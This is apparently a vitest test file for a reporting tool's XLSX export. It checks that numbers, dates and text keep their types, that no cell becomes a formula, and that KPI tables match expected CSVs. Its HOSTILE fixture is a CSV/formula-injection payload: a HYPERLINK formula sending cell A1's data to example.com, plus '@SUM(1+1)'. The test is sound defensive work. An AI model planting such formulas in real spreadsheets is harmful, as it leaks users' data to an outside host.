import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtureLake, tempDir } from '../../engine/test-lakes';
import { ZipReader } from './zip-archive';
import { testCore, type TestCore } from './test-bundles';

const HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"Open invoice")';
const SQL = `SELECT * FROM (VALUES
  ('${HOSTILE.replace(/'/g, "''")}', CAST(1234.50 AS DECIMAL(18,2)), DATE '2025-01-05', CAST(42 AS BIGINT), '@SUM(1+1)'),
  ('Acme Foods', CAST(-0.10 AS DECIMAL(18,2)), DATE '2025-02-28', CAST(7 AS BIGINT), NULL)
) AS t(company_name, amount_usd, bill_date, units, note)`;

let dir: string;
let lake: TestCore;

beforeAll(async () => {
  dir = await tempDir('lakedesk-bundle-xlsx-');
  lake = await testCore(fixtureLake);
});
afterAll(() => lake.close());

async function sheetXml(path: string): Promise<string> {
  const zip = await ZipReader.open(path);
  try {
    const sheets = [...zip.entries.keys()].filter((n) => n.startsWith('xl/worksheets/'));
    return (await Promise.all(sheets.map((n) => zip.readBuffer(n, 1e8)))).join('\n');
  } finally {
    zip.close();
  }
}

describe('XLSX export', () => {
  it('writes numbers as numbers, dates as dates, and cell text as text, never a formula', async () => {
    const result = await lake.job('queries.run', { sql: SQL });
    const bundle = join(dir, 'result.lakereport');
    await lake.job('reports.exportBundle', {
      source: {
        kind: 'result',
        resultId: result.resultId,
        sql: result.sql,
        params: result.params,
        title: 'Invoices',
      },
      out: bundle,
    });
    const out = join(dir, 'invoices.xlsx');
    expect(await lake.job('reports.exportXlsx', { from: { path: bundle }, out })).toMatchObject({
      path: out,
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    expect(book.worksheets.map((s) => s.name)).toEqual(['About', 'result', 'Chart result']);
    const sheet = book.getWorksheet('result')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'company_name',
      'amount_usd',
      'bill_date',
      'units',
      'note',
    ]);
    const [name, amount, date, units, note] = [1, 2, 3, 4, 5].map((c) => sheet.getRow(2).getCell(c));
    expect(name!.type).toBe(ExcelJS.ValueType.String);
    expect(name!.value).toBe(HOSTILE);
    expect(name!.formula).toBeUndefined();
    expect(note!.value).toBe('@SUM(1+1)');
    expect(amount!.type).toBe(ExcelJS.ValueType.Number);
    expect(amount!.value).toBe(1234.5);
    expect(amount!.numFmt).toContain('"$"#,##0.00');
    expect(date!.type).toBe(ExcelJS.ValueType.Date);
    expect((date!.value as Date).toISOString()).toBe('2025-01-05T00:00:00.000Z');
    expect(units!.value).toBe(42);
    expect(sheet.getRow(3).getCell(2).value).toBe(-0.1);
    expect(sheet.getRow(3).getCell(5).value).toBeNull();
    expect(await sheetXml(out)).not.toMatch(/<f[ >]/);
    const about = book.getWorksheet('About')!;
    const pairs = new Map<string, unknown>();
    about.eachRow((row) => pairs.set(String(row.getCell(1).value), row.getCell(2).value));
    expect(pairs.get('Title')).toBe('Invoices');
    expect(pairs.get('Integrity')).toMatch(/All members match/);
    expect(String(pairs.get('  SQL'))).toContain('VALUES');
  });

  it('KPI dashboard: five tables equal the expected CSVs; the workbook has numeric cells for them', async () => {
    const bundle = join(dir, 'kpis.lakereport');
    await lake.job('reports.exportBundle', { source: { kind: 'kpis', month: '2025-02' }, out: bundle });
    const zip = await ZipReader.open(bundle);
    const files: Record<string, string> = {
      total_sales_by_customer: 'total_sales_by_customer.csv',
      monthly_order_volume: 'monthly_order_volume.csv',
      order_status: 'order_status.csv',
      average_order_value: 'average_order_value.csv',
      top_orders_in_month: 'top10_orders_2025_02.csv',
    };
    for (const [table, file] of Object.entries(files)) {
      const csv = (await zip.readBuffer(`data/${table}.csv`, 1e8)).toString('utf8');
      expect(csv, table).toBe(await readFile(join(fixtureLake, 'expected', file), 'utf8'));
    }
    zip.close();
    const opened = await lake.call('reports.openBundle', { path: bundle });
    expect(opened.manifest.queries.find((q) => q.savedId === 'top-orders-in-month')?.params).toEqual({
      month: '2025-02',
    });
    const out = join(dir, 'kpis.xlsx');
    await lake.job('reports.exportXlsx', { from: { bundleId: opened.bundleId }, out });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    const sales = book.getWorksheet('total_sales_by_customer')!;
    expect(sales.rowCount).toBe(41);
    expect(sales.getRow(2).getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(sales.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(book.getWorksheet('monthly_order_volume')!.getRow(2).getCell(2).numFmt).toBe('#,##0');
    expect(book.worksheets.filter((s) => s.name.startsWith('Chart '))).toHaveLength(5);
    await lake.call('reports.closeBundle', { bundleId: opened.bundleId });
  });
});
